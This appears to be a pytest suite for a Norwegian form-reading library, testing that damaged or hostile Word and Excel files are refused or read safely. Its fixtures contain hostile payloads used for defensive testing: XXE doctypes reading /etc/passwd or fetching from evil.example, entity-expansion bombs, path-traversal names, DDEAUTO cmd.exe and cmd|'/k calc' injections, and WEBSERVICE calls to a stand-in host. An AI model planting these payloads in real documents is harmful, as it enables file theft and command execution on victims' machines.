"""
A filled form from a mailbox: whatever it is, it is read, or refused with a sentence that helps; and nothing else is.

Each file is read by a process that may use 1.5 GB and two minutes, and that tells what it opened beside the file.
BOSODOCS_RANDOM says how many files are damaged at random; the suite has a few, the long run more.
"""

import json
import os
import random
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from bosodocs import fill, forms, load
from bosodocs.language import printable
from tests.excel import raw
from tests.often import often

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="limits of Unix")

SAMPLE = Path(__file__).parents[2] / "samples" / "holmestrand.yaml"
RANDOM = int(os.environ.get("BOSODOCS_RANDOM", often(120, 600)))
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = raw.OFFICE
BODY = b"<w:body>"


class Child:
    """The process that reads; it is begun anew where a file has killed it."""

    def __init__(self, folder):
        command = [sys.executable, str(Path(__file__).with_name("reader.py")), str(folder)]
        self.process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)

    def read(self, path):
        self.process.stdin.write(json.dumps(str(path)) + "\n")
        self.process.stdin.flush()
        return json.loads(self.process.stdout.readline() or '{"broke": "it took too long", "touched": []}')

    def end(self):
        self.process.stdin.close()
        self.process.stdout.close()
        self.process.wait()


@pytest.fixture(scope="module")
def samples(tmp_path_factory):
    """Every form, filled, in a folder."""
    folder = tmp_path_factory.mktemp("skjemaer")
    for form in forms.ALL:
        (folder / f"{form.name}{form.suffix}").write_bytes(fill(load(SAMPLE), form).data)
    return folder


@pytest.fixture(scope="module")
def children(samples):
    made = [Child(samples)]
    yield made
    made[-1].end()


@pytest.fixture
def found(children, samples):
    """What reading a file gives; it has touched nothing else, and broken in no way."""

    def read(path):
        answer = children[-1].read(path)
        if children[-1].process.poll() is not None or "took too long" in answer.get("broke", ""):
            children[-1].end()
            children.append(Child(samples))
        assert "broke" not in answer, answer["broke"]
        assert not answer["touched"]
        return answer

    return read


@pytest.fixture
def refused(found, tmp_path):
    """The sentence with which a file is refused; its name is told, and not where this machine has it."""

    def read(path):
        answer = found(path)
        assert "refused" in answer, answer
        said = answer["refused"]
        named = printable.harmless(str(path))
        assert said.startswith(f"{named}: ")
        return said.removeprefix(f"{named}: ")

    return read


@pytest.fixture
def told(found):
    """The notes with which a file is read."""

    def read(path):
        answer = found(path)
        assert "form" in answer, answer
        return answer["notes"]

    return read


@pytest.fixture
def report(samples, tmp_path):
    """The filled report with parts changed, added or taken away: None takes one away, a function changes it."""
    return maker(samples / "half_year_report.docx", tmp_path / "rapport.docx")


@pytest.fixture
def workbook(samples, tmp_path):
    """The filled workbook of the report, as `report`."""
    return maker(samples / "report_workbook.xlsx", tmp_path / "rapport.xlsx")


def maker(whole, path):
    def make(changes=None, *, method=zipfile.ZIP_DEFLATED):
        changes = dict(changes or {})
        with zipfile.ZipFile(whole) as old, zipfile.ZipFile(path, "w", method) as new:
            for name in old.namelist():
                change = changes.pop(name, old.read(name))
                content = change(old.read(name)) if callable(change) else change
                if content is not None:
                    new.writestr(name, content)
            for name, content in changes.items():
                new.writestr(name, content)
        return path

    return make


def replaced(old, new):
    """A change that puts something in place of what is there, and does so."""

    def change(part):
        assert old in part, old
        return part.replace(old, new, 1)

    return change


def varied(count, pattern):
    """Markup that no archive makes a hundred times smaller: an archive looks back no more than 32 kB."""
    chance = random.Random(2013)  # noqa: S311 - the same in each run
    block = [pattern % chance.getrandbits(64) for _ in range(min(count, 2000))]
    return "".join(block * (count // len(block)))


def named_streams(*names):
    """The beginning of an OLE2 file whose directory has these streams ([MS-CFB] §2.6.1: names in UTF-16)."""
    return OLE2 + bytes(1016) + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in names)


# What is no Word or Excel file.


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("rapport.doc", named_streams("Root Entry", "WordDocument"), "Open it in Word and save it as .docx"),
        ("ark.xls", named_streams("Root Entry", "Workbook"), "Open it in Excel and save it as .xlsx"),
        ("rapport.docx", named_streams("EncryptionInfo", "EncryptedPackage"), "has a password. Open it in Office and"),
        ("rapport.docx", OLE2 + bytes(512), "an old Word or Excel file, or one with a password"),
        ("rapport.pdf", b"%PDF-1.7\n%\xe2\xe3", "a PDF. Give the Word or Excel file that it was made from."),
        ("rapport.docx", b"\xef\xbb\xbf\r\n<!DOCTYPE html><html>", "a web page"),
        ("rapport.docx", b"<html xmlns:w='urn:schemas-microsoft-com:office:word'>", "a web page"),
        ("ark.xls", b"<table border=1><tr><td>2012", "a web page"),
        ("rapport.docx", b"{\\rtf1\\ansi", "rich text"),
        ("rapport.docx", b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "a web page"),
        ("rapport.docx", "Rapport for første halvår".encode(), "no Word or Excel file"),
        ("rapport.docx", b"<?xml version='1.0'?><pkg:package/>", "plain XML"),
        ("rapport.docx", b"", "The file is empty."),
        ("rapport.docx", b"PK", "damaged or cut short"),
    ],
)  # fmt: skip
def test_what_is_no_form_is_refused_with_what_helps(refused, tmp_path, name, content, says):
    (tmp_path / name).write_bytes(content)
    assert says in refused(tmp_path / name)


@pytest.mark.parametrize(("kind", "helps"), [("text", "save it as .docx"), ("spreadsheet", "save it as .xlsx")])
def test_an_opendocument_file_is_refused_with_what_helps(refused, tmp_path, kind, helps):
    path = tmp_path / "rapport.odt"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}")
        file.writestr("content.xml", "<x/>")
    assert helps in refused(path)


def test_a_presentation_is_no_form(refused, report):
    path = report(dict.fromkeys(("word/document.xml",)))
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr("ppt/presentation.xml", "<x/>")
    assert "no Word or Excel form" in refused(path)


def test_a_folder_a_missing_file_a_pipe_and_a_device_are_refused(refused, tmp_path):
    assert "This is a folder." in refused(tmp_path)
    assert "There is no such file." in refused(tmp_path / "borte.docx")
    os.mkfifo(tmp_path / "rør.docx")
    assert "a device or a pipe" in refused(tmp_path / "rør.docx")
    (tmp_path / "null.docx").symlink_to("/dev/zero")
    assert "a device or a pipe" in refused(tmp_path / "null.docx")


def test_a_path_that_no_file_can_have_is_refused(refused, tmp_path):
    refused(f"{tmp_path}/a\0.docx")
    refused(f"{tmp_path}/{'a' * 5000}.docx")
    (tmp_path / "ring.docx").symlink_to("ring.docx")
    refused(tmp_path / "ring.docx")


def test_a_file_larger_than_any_form_is_refused_unread(refused, tmp_path):
    (tmp_path / "stor.docx").write_bytes(b"PK")
    os.truncate(tmp_path / "stor.docx", 2**40)
    assert "larger than 50 MB" in refused(tmp_path / "stor.docx")


# Archives that are damaged or made to do harm.


def test_a_form_cut_short_anywhere_is_refused(refused, samples, tmp_path):
    for form in ("half_year_report.docx", "report_workbook.xlsx"):
        whole = (samples / form).read_bytes()
        for share in range(1, 12):
            (tmp_path / form).write_bytes(whole[: len(whole) * share // 12])
            refused(tmp_path / form)


@pytest.mark.parametrize(
    "name", ["../x.xml", "/word/x.xml", "word/../../x.xml", "C:/x.xml", "word\\..\\x.xml", "word/./x"]
)
def test_a_part_that_would_climb_out_is_refused(refused, report, name):
    assert "No Office program writes such" in refused(report({name: b"x"}))


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_part_that_stands_twice_is_refused(refused, report):
    path = report()
    with zipfile.ZipFile(path, "a") as file:
        file.writestr("word/document.xml", b"<x/>")
    assert "twice" in refused(path)
    assert "twice" in refused(report({"WORD/document.xml": b"<x/>"}))


def test_a_part_that_grows_without_end_and_parts_without_end_are_refused(refused, report, workbook):
    assert "grows to" in refused(report({"word/document.xml": replaced(BODY, BODY + b" " * 30_000_000)}))
    assert "grows to" in refused(workbook({"xl/media/x.bin": bytes(30_000_000)}))
    assert "parts" in refused(report({f"word/media/{n}.bin": b"x" for n in range(1200)}))


def test_49_megabytes_of_text_are_refused_or_cut(refused, told, report, workbook):
    text = ("Kommunen bygger " * 3_200_000).encode()
    document = {"word/document.xml": replaced(BODY, b"<w:body><w:p><w:r><w:t>" + text + b"</w:t></w:r></w:p>")}
    assert "49 MB of text" in refused(report(document, method=zipfile.ZIP_STORED))
    strings = {"xl/sharedStrings.xml": replaced(b"<si>", b"<si><t>" + text + b"</t></si><si>")}
    assert any("read up to character number" in note for note in told(workbook(strings, method=zipfile.ZIP_STORED)))


# Markup that would have something expanded, fetched or run.

ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTER = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
REMOTE = b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'


def with_doctype(doctype):
    return lambda part: re.sub(rb"\A(?:\xef\xbb\xbf)?(<\?xml[^>]*\?>)?", lambda found: found[0] + doctype, part)


@pytest.mark.parametrize(
    ("form", "part"),
    [
        ("report", "word/document.xml"),
        ("report", "word/styles.xml"),
        ("report", "word/numbering.xml"),
        ("report", "word/_rels/document.xml.rels"),
        ("report", "_rels/.rels"),
        ("report", "[Content_Types].xml"),
        ("report", "docProps/core.xml"),
        ("workbook", "xl/worksheets/sheet1.xml"),
        ("workbook", "xl/sharedStrings.xml"),
        ("workbook", "xl/styles.xml"),
        ("workbook", "xl/workbook.xml"),
        ("workbook", "xl/_rels/workbook.xml.rels"),
    ],
)
def test_a_doctype_is_refused_wherever_it_stands(refused, request, form, part):
    doctype = [ENTITIES, OUTER, REMOTE][len(part) % 3]
    assert "DOCTYPE" in refused(request.getfixturevalue(form)({part: with_doctype(doctype)}))


@pytest.mark.parametrize("doctype", [ENTITIES, OUTER, REMOTE])
def test_no_doctype_is_read(refused, report, workbook, doctype):
    assert "DOCTYPE" in refused(report({"word/document.xml": with_doctype(doctype)}))
    assert "DOCTYPE" in refused(workbook({"xl/sharedStrings.xml": with_doctype(doctype)}))


def test_a_doctype_in_utf_16_is_refused(refused, report):
    assert "DOCTYPE" in refused(
        report({"word/document.xml": lambda part: with_doctype(ENTITIES)(part).decode().encode("utf-16")})
    )


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf_16_that_does_not_say_so_is_refused(refused, report, encoding):
    part = {"word/document.xml": lambda part: with_doctype(ENTITIES)(part).decode().encode(encoding)}
    assert "encoding" in refused(report(part))


def related(kind, target, mode=' TargetMode="External"', identity="rIdX"):
    return replaced(
        b"</Relationships>",
        f'<Relationship Id="{identity}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'.encode(),
    )


LINKED = (
    "<w:body><w:p><w:r><w:drawing><a:blip "
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{OFFICE}" r:embed="rIdX" r:link="rIdX"/></w:drawing></w:r></w:p>'
).encode()


def test_a_template_elsewhere_is_left_alone(told, report):
    settings = f'<w:settings {W} xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rIdX"/></w:settings>'
    ties = raw.relations(("rIdX", "attachedTemplate", "http://evil.example/x.dotm", True))
    told(report({"word/settings.xml": settings, "word/_rels/settings.xml.rels": ties}))


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://evil.example/x.png"),
        ("oleObject", "file:///etc/passwd"),
        ("subDocument", "\\\\evil.example\\x"),
        ("aFChunk", "http://evil.example/x"),
    ],
)
def test_what_lies_elsewhere_is_left_alone_and_told(told, report, kind, target):
    notes = told(
        report({"word/_rels/document.xml.rels": related(kind, target), "word/document.xml": replaced(BODY, LINKED)})
    )
    assert any(f"takes something from elsewhere ({kind})" in note for note in notes)


@pytest.mark.parametrize("target", ["../../../../etc/passwd", "/etc/passwd", "/", "", ".", "%2e%2e/x", "a\0b"])
def test_a_target_outside_the_package_is_never_opened(told, report, workbook, target):
    told(
        report(
            {
                "word/_rels/document.xml.rels": related("image", target.replace("\0", "%00"), ""),
                "word/document.xml": replaced(BODY, LINKED),
            }
        )
    )
    told(workbook({"xl/_rels/workbook.xml.rels": related("externalLink", target.replace("\0", "%00"), "")}))


@pytest.mark.parametrize(
    "code",
    [
        'INCLUDETEXT "/etc/passwd"',
        'INCLUDEPICTURE "http://evil.example/x.png"',
        'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
        'DDE excel "x"',
        'LINK Excel.Sheet.12 "http://evil.example/x.xlsx" "A1"',
        'DATABASE \\d "http://evil.example"',
        'IMPORT "/etc/passwd"',
        "MACROBUTTON Start",
        "= 10^1000000000",
        'QUOTE "never shown"',
    ],
)
def test_a_field_is_what_it_shows(samples, found, report, code):
    code = code.replace('"', "&quot;")
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    shown = "<w:r><w:t>Det som vises</w:t></w:r>"
    fields = f"<w:p>{begin}<w:r><w:instrText>{code}</w:instrText></w:r>{separate}{shown}{end}</w:p>"
    change = replaced(b"</w:body>", f"{fields}</w:body>".encode())
    notes = found(report({"word/document.xml": change}))["notes"]
    assert not any("evil" in note or "never shown" in note for note in notes)


VND = "application/vnd."
MACROS = {
    "report": (f"{VND}openxmlformats-officedocument.wordprocessingml.document.main", f"{VND}ms-word.document"),
    "workbook": (f"{VND}openxmlformats-officedocument.spreadsheetml.sheet.main", f"{VND}ms-excel.sheet"),
}


@pytest.mark.parametrize("form", ["report", "workbook"])
def test_macros_are_refused(refused, request, form):
    ordinary, enabled = MACROS[form]
    make = request.getfixturevalue(form)
    helps = "Save it as an ordinary"
    change = replaced(f"{ordinary}+xml".encode(), f"{enabled}.macroEnabled.main+xml".encode())
    assert helps in refused(make({"[Content_Types].xml": change}))
    hidden = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    main = "word" if form == "report" else "xl"
    assert helps in refused(
        make({"[Content_Types].xml": replaced(b"</Types>", hidden), f"{main}/vbaProject.bin": OLE2})
    )


# Tables and sheets without end.


def row_of(*cells):
    return f"<w:tr>{''.join(f'<w:tc><w:p><w:r><w:t>{cell}</w:t></w:r></w:p></w:tc>' for cell in cells)}</w:tr>"


def test_a_table_of_100_000_rows_is_read_or_refused(found, report):
    rows = varied(100_000, row_of("%016d", "Navn", "Stilling"))
    table = f"<w:body><w:tbl>{rows}</w:tbl>".encode()
    answer = found(report({"word/document.xml": replaced(BODY, table)}))
    assert answer.get("form") or "more in it than any form" in answer["refused"]


def test_a_sheet_of_100_000_rows_is_read(told, workbook):
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(500, 100_500))
    told(workbook({"xl/worksheets/sheet1.xml": replaced(b"</sheetData>", f"{rows}</sheetData>".encode())}))


@pytest.mark.parametrize("sheet", [1, 3, 8])
def test_a_cell_in_the_last_corner_of_a_sheet_is_told(told, workbook, sheet):
    corner = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    notes = told(workbook({f"xl/worksheets/sheet{sheet}.xml": replaced(b"</sheetData>", corner)}))
    assert any("column" in note for note in notes)


def test_a_cell_far_to_the_right_in_each_of_90_000_rows_is_bounded(told, workbook):
    rows = "".join(f'<row r="{n}"><c r="XFD{n}"><v>{n}</v></c></row>' for n in range(500, 90_500))
    told(workbook({"xl/worksheets/sheet7.xml": replaced(b"</sheetData>", f"{rows}</sheetData>".encode())}))


@pytest.mark.parametrize(
    "properties",
    [
        '<w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>',
        '<w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>',
        '<w:tcPr><w:gridSpan w:val="-5"/></w:tcPr>',
        '<w:tcPr><w:gridSpan w:val="to"/><w:vMerge w:val="?"/></w:tcPr>',
    ],
)
def test_a_cell_that_spans_without_end_spans_no_further_than_a_table(told, report, properties):
    cell = f"<w:tc>{properties}<w:p/></w:tc>"
    table = f'<w:body><w:tbl><w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr>{cell * 500}</w:tr></w:tbl>'
    told(
        report({"word/document.xml": replaced(BODY, (table + f"<w:tbl><w:tr>{cell * 10_000}</w:tr></w:tbl>").encode())})
    )


def test_a_merged_range_of_a_whole_sheet_and_many_over_each_other_are_read(told, workbook):
    ranges = ("A1:XFD1048576", *(f"{column}{row}:{column}1048576" for row in range(1, 5000) for column in "ABC"))
    merged = "".join(f'<mergeCell ref="{ref}"/>' for ref in ranges)
    merges = replaced(b"</sheetData>", f"</sheetData><mergeCells>{merged}</mergeCells>".encode())
    told(workbook({f"xl/worksheets/sheet{number}.xml": merges for number in range(3, 7)}))


def test_a_thousand_sheets_are_read_up_to_a_bound(refused, found, workbook):
    sheets = "".join(f'<sheet name="Ark {n}" sheetId="{n}"/>' for n in range(100, 1100))
    notes = found(workbook({"xl/workbook.xml": replaced(b"</sheets>", f"{sheets}</sheets>".encode())}))["notes"]
    assert any("sheets are left out" in note for note in notes)


# Markup that is broken, or that says what cannot be.


def nested(before, after, count=100_000, inside=""):
    return f"<w:body>{before * count}{inside}{after * count}".encode()


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
        ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
        ("<w:smartTag>", "</w:smartTag>"),
        ("<w:p>", "</w:p>"),
        ("<w:p><w:r>", "</w:r></w:p>"),
        ("<w:x>", "</w:x>"),
    ],
)
def test_elements_inside_each_other_without_end_are_refused_or_passed_over(found, report, before, after):
    around = ("<w:tbl><w:tr>", "</w:tr></w:tbl>") if "sdt" in before else ("", "")
    change = replaced(BODY, b"<w:body>" + around[0].encode() + nested(before, after)[8:] + around[1].encode())
    answer = found(report({"word/document.xml": change}, method=zipfile.ZIP_STORED))
    assert answer.get("form") or "deeper than a document is" in answer["refused"]


@pytest.mark.parametrize("count", [60, 100, 190])
def test_elements_inside_each_other_deeper_than_is_read_are_refused_or_read(found, report, count):
    for before, after in (
        ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
        ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
    ):
        answer = found(report({"word/document.xml": replaced(BODY, nested(before, after, count // 3))}))
        assert answer.get("form") or "inside more elements than in any document" in answer["refused"]
    inside = "<w:p>" + "<w:smartTag>" * count + "</w:smartTag>" * count + "</w:p>"
    answer = found(report({"word/document.xml": replaced(BODY, b"<w:body>" + inside.encode())}))
    assert answer.get("form") or "inside more elements than in any document" in answer["refused"]


def test_styles_numbers_and_comments_inside_each_other_without_end_do_no_harm(found, report):
    deep = f"<w:styles {W}>{'<w:style>' * 50_000}{'</w:style>' * 50_000}</w:styles>"
    assert found(report({"word/styles.xml": deep}, method=zipfile.ZIP_STORED))
    lists = f"<w:numbering {W}>{'<w:abstractNum>' * 50_000}{'</w:abstractNum>' * 50_000}</w:numbering>"
    assert found(report({"word/numbering.xml": lists}, method=zipfile.ZIP_STORED))


def test_a_tag_of_many_megabytes_is_read_or_refused(found, told, report, workbook):
    long = b'<w:body><w:p x="' + b"a" * 20_000_000 + b'"/>'
    told(report({"word/document.xml": replaced(BODY, long)}, method=zipfile.ZIP_STORED))
    many = b"<w:body><w:p " + b"".join(b'a%d="" ' % n for n in range(300_000)) + b"/>"
    told(report({"word/document.xml": replaced(BODY, many)}, method=zipfile.ZIP_STORED))
    cell = b'<sheetData x="' + b"a" * 20_000_000 + b'">'
    found(workbook({"xl/worksheets/sheet1.xml": replaced(b"<sheetData>", cell)}, method=zipfile.ZIP_STORED))


@pytest.mark.parametrize("part", ["word/styles.xml", "word/numbering.xml", "docProps/core.xml", "word/settings.xml"])
def test_a_form_without_a_part_that_it_can_do_without_is_read(told, report, part):
    told(report({part: None}))


@pytest.mark.parametrize("part", ["word/document.xml", "word/_rels/document.xml.rels", "_rels/.rels"])
def test_a_form_without_a_part_that_it_needs_is_refused_or_read(found, report, part):
    answer = found(report({part: None}))
    assert answer.get("form") or answer["refused"]


def test_a_document_without_its_text_is_told(refused, report):
    assert "the document's text is missing" in refused(report({"word/document.xml": None}))


@pytest.mark.parametrize(
    "part", ["xl/styles.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet3.xml", "docProps/core.xml"]
)
def test_a_workbook_without_a_part_is_read_with_a_note(told, workbook, part):
    assert told(workbook({part: None}))


BROKEN = [b"", b"<", b"<x", b"<a><b></a>", b"\xff\xfe<", b"\xfe\xff\x00", b"\x00" * 9, b"<a>&x;</a>"]


@pytest.mark.parametrize("broken", BROKEN)
def test_a_document_that_is_no_xml_is_refused(refused, report, broken):
    assert "XML" in refused(report({"word/document.xml": broken}))


@pytest.mark.parametrize(
    "part", ["word/styles.xml", "word/_rels/document.xml.rels", "_rels/.rels", "[Content_Types].xml"]
)
def test_a_part_of_a_document_that_is_no_xml_is_refused(refused, report, part):
    assert "XML" in refused(report({part: b"<a><b></a>"}))


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "_rels/.rels"])
def test_a_part_of_a_workbook_that_is_no_xml_is_told(found, workbook, part):
    answer = found(workbook({part: b"<a><b></a>"}))
    assert answer.get("notes") or "XML is broken" in answer["refused"]


def test_a_document_in_utf_16_is_read_and_one_in_another_encoding_refused(told, refused, report):
    bare = lambda part: re.sub(rb"\A<\?xml[^>]*\?>\s*", b"", part)  # noqa: E731 - used twice
    told(report({"word/document.xml": lambda part: bare(part).decode().encode("utf-16")}))
    latin = b'<?xml version="1.0" encoding="iso-8859-1"?>'
    change = lambda part: latin + bare(part).decode().encode("iso-8859-1", "xmlcharrefreplace")  # noqa: E731
    assert "in no encoding that it may have" in refused(report({"word/document.xml": change}))


@pytest.mark.parametrize("encoding", ["x", "cp037", "utf-7", "utf_16_le", "rot13", "unicode_escape", "this", "idna"])
def test_a_workbook_in_an_encoding_that_no_office_file_has_is_refused(refused, workbook, encoding):
    declared = f'<?xml version="1.0" encoding="{encoding}"?>'.encode()
    bare = b"<sst/>"
    assert "in no encoding that it may have" in refused(workbook({"xl/sharedStrings.xml": declared + bare}))
    assert "in no encoding that it may have" in refused(
        workbook({"xl/workbook.xml": (declared + bare).decode().encode("utf-16")})
    )


@pytest.mark.parametrize("value", ["999999", "-1", "to", "", "9" * 5000, "²", "--5", "1e9", "NaN", " 1 "])
def test_a_number_that_is_none_does_no_harm(told, report, value):
    lists = (
        f'<w:body><w:p><w:pPr><w:numPr><w:ilvl w:val="{value}"/><w:numId w:val="{value}"/></w:numPr>'
        f'<w:ind w:left="{value}"/><w:outlineLvl w:val="{value}"/></w:pPr><w:r><w:fldChar w:fldCharType="begin">'
        f'<w:ffData><w:ddList><w:result w:val="{value}"/><w:listEntry w:val="Ja"/></w:ddList></w:ffData></w:fldChar>'
        f'<w:sym w:char="{value}"/><w:footnoteReference w:id="{value}"/>'
        '<w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ).encode()
    numbering = (
        f'<w:num w:numId="77"><w:abstractNumId w:val="{value}"/><w:lvlOverride w:ilvl="{value}">'
        f'<w:startOverride w:val="{value}"/></w:lvlOverride></w:num></w:numbering>'
    ).encode()
    told(
        report(
            {"word/document.xml": replaced(BODY, lists), "word/numbering.xml": replaced(b"</w:numbering>", numbering)}
        )
    )


def test_styles_that_are_based_on_each_other_are_read(told, report):
    ring = "".join(
        f'<w:style w:styleId="R{n}"><w:name w:val="R{n}"/><w:basedOn w:val="R{(n + 1) % 20_000}"/></w:style>'
        for n in range(20_000)
    )
    told(
        report({"word/styles.xml": replaced(b"</w:styles>", f"{ring}</w:styles>".encode())}, method=zipfile.ZIP_STORED)
    )


def test_a_hundred_thousand_notes_comments_and_heads_are_bounded(found, report):
    notes = "".join(f'<w:footnote w:id="{n}"><w:p><w:r><w:t>Note</w:t></w:r></w:p></w:footnote>' for n in range(50_000))
    marks = "".join(f'<w:r><w:footnoteReference w:id="{n}"/></w:r>' for n in range(50_000))
    heads = "".join(f'<Relationship Id="h{n}" Type="{OFFICE}/header" Target="hode.xml"/>' for n in range(20_000))
    tie = f'{heads}<Relationship Id="fn" Type="{OFFICE}/footnotes" Target="noter.xml"/></Relationships>'.encode()
    words = "<w:p><w:r><w:t>Topptekst</w:t></w:r></w:p>" * 20_000
    parts = {
        "word/document.xml": replaced(BODY, f"<w:body><w:p>{marks}</w:p>".encode()),
        "word/noter.xml": f"<w:footnotes {W}>{notes}</w:footnotes>",
        "word/hode.xml": f"<w:hdr {W}>{words}</w:hdr>",
        "word/_rels/document.xml.rels": replaced(b"</Relationships>", tie),
    }
    answer = found(report(parts, method=zipfile.ZIP_STORED))
    assert len(answer["notes"]) < 200
    assert any("other places" in note for note in answer["notes"])


def row(number, *cells):
    return f'<row r="{number}">{"".join(cells)}</row>'


@pytest.mark.parametrize(
    ("cell", "says"),
    [
        ('<c r="A90" t="s"><v>99999999</v></c>', "names a text that the file does not hold"),
        ('<c r="A90" t="s"><v>-1</v></c>', "names a text that the file does not hold"),
        ('<c r="A90" t="e"><v>#REF!</v></c>', "shows the error #REF!"),
        ('<c r="A90"><v>1e400</v></c>', "should be a number, and is none"),
        ('<c r="A90"><v>NaN</v></c>', "should be a number, and is none"),
        (f'<c r="A90"><v>{"9" * 5000}</v></c>', "should be a number, and is none"),
        ('<c r="A90" t="d"><v>9999-99-99</v></c>', ""),
        ('<c r="ÆØÅ" t="?" s="x"><v>1</v></c>', ""),
        ('<c r="A0"><v>1</v></c><c r="AAAA1"><v>1</v></c><c r="A1048577"><v>1</v></c>', ""),
        ('<c r="A90"><f>WEBSERVICE("http://evil.example")</f></c>', "has not been worked out"),
        ("<c r=\"A90\"><f>cmd|'/k calc'!A0</f><v>2</v></c>", ""),
    ],
)
@pytest.mark.parametrize("sheet", [3])
def test_a_cell_that_says_what_cannot_be_is_told(told, workbook, sheet, cell, says):
    change = replaced(b"</sheetData>", f"{row(90, cell)}</sheetData>".encode())
    assert any(says in note for note in told(workbook({f"xl/worksheets/sheet{sheet}.xml": change})))


@pytest.mark.parametrize("day", ["-1", "0", "60", "2958466", "1e15", "-1e300", "99999999999999999999"])
def test_a_day_that_no_calendar_has_does_no_harm(told, workbook, day):
    dated = b'<xf numFmtId="14" fontId="0" fillId="0" borderId="0" applyNumberFormat="1"/></cellXfs>'

    def change(part):
        return re.sub(
            rb'(<c r="[A-Z]+[0-9]+")[^>]*>(?:<is>.*?</is>|<v>.*?</v>)</c>',
            rb'\1 s="14"><v>' + day.encode() + b"</v></c>",
            part,
        )

    told(workbook({"xl/styles.xml": replaced(b"</cellXfs>", dated), "xl/worksheets/sheet8.xml": change}))


# Damage at random.


def damaged(parts, chance):
    """A package with some of its parts damaged, in one or more ways."""
    made = dict(parts)
    names = sorted(name for name in parts if name.endswith((".xml", ".rels")))
    for _ in range(chance.randint(1, 3)):
        name = chance.choice(names)
        if made.get(name):
            made[name] = chance.choice(DAMAGES)(made[name], chance)
    return {name: content for name, content in made.items() if content is not None}


def flipped(part, chance):
    changed = bytearray(part)
    for _ in range(chance.randint(1, 4)):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed)


def dropped(part, chance):
    tags = list(re.finditer(rb"<([A-Za-z0-9:]+)[^<>]*?/>|<([A-Za-z0-9:]+)[^<>]*>[^<>]*</\2>", part))
    gone = sorted(chance.sample(tags, min(len(tags), chance.choice((1, 3, 30)))), key=lambda tag: -tag.start())
    for tag in gone:
        part = part[: tag.start()] + part[tag.end() :]
    return part


def swapped(part, chance):
    values = sorted(set(re.findall(rb'"[^"<>]{0,40}"', part)))
    odd = (b'"-1"', b'"999999999"', b'""', b'"x"', b'"NaN"', b'"1e400"', b'"A1:XFD1048576"', b'"0"')
    share = chance.choice((0.01, 0.1, 1))
    pick = (*values, *odd)
    return re.sub(
        rb'(?<==)"[^"<>]{0,40}"', lambda found: chance.choice(pick) if chance.random() < share else found[0], part
    )


def moved(part, chance):
    texts = re.findall(rb"(?<=>)[^<>]+(?=<)", part) or [b""]
    return re.sub(
        rb"(?<=>)[^<>]+(?=<)", lambda found: chance.choice(texts) if chance.random() < 0.2 else found[0], part
    )


def cut(part, chance):
    return part[: chance.randrange(len(part))]


def repeated(part, chance):
    start, end = sorted((chance.randrange(len(part)), chance.randrange(len(part))))
    return part[:end] + part[start:end] + part[end:]


def gone(_part, _chance):
    return None


DAMAGES = (flipped, flipped, dropped, dropped, dropped, swapped, swapped, swapped, moved, moved, cut, repeated, gone)


@pytest.mark.parametrize("form", forms.ALL, ids=lambda form: form.name)
def test_a_form_that_is_damaged_at_random_is_read_or_refused(found, samples, tmp_path, form):
    with zipfile.ZipFile(samples / f"{form.name}{form.suffix}") as file:
        parts = {name: file.read(name) for name in file.namelist()}
    for seed in range(RANDOM // len(forms.ALL)):
        path = tmp_path / f"{seed}{form.suffix}"
        path.write_bytes(raw.packed(damaged(parts, random.Random(f"{form.name} {seed}"))))  # noqa: S311 - the same in each run
        answer = found(path)
        assert answer.get("form") or answer["refused"]
        path.unlink()
